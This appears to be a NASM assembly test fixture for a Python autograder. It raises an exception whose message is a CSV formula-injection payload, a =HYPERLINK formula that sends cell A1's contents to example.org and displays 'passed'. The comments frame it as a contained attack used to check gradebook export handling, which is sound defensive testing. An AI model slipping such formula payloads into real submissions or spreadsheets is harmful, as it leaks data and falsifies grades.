; attack: raises an exception whose message is a formula for spreadsheets
; works: it says "=HYPERLINK"
; contained: harmless report
;
; A gradebook is a CSV file, and programs run formulas in it on opening. Cells
; of a gradebook must not begin with what a student wrote.

%define OWN_RUN
%include "attack.inc"

    extern  PyErr_SetString, PyExc_ValueError

    section .rodata
text:
    db      '=HYPERLINK("http://example.org/?"&A1,"passed")'
    db      0

    section .text
; PyObject *run(PyObject *module, PyObject *nothing)
;
;   out     rax = NULL with an exception set
run:
    sub     rsp, 8                      ; rsp to a multiple of 16
    mov     rdi, [rel PyExc_ValueError wrt ..got]
    mov     rdi, [rdi]
    lea     rsi, [rel text]
    call    PyErr_SetString wrt ..plt
    xor     eax, eax
    add     rsp, 8
    ret

    section .note.GNU-stack noalloc noexec nowrite progbits
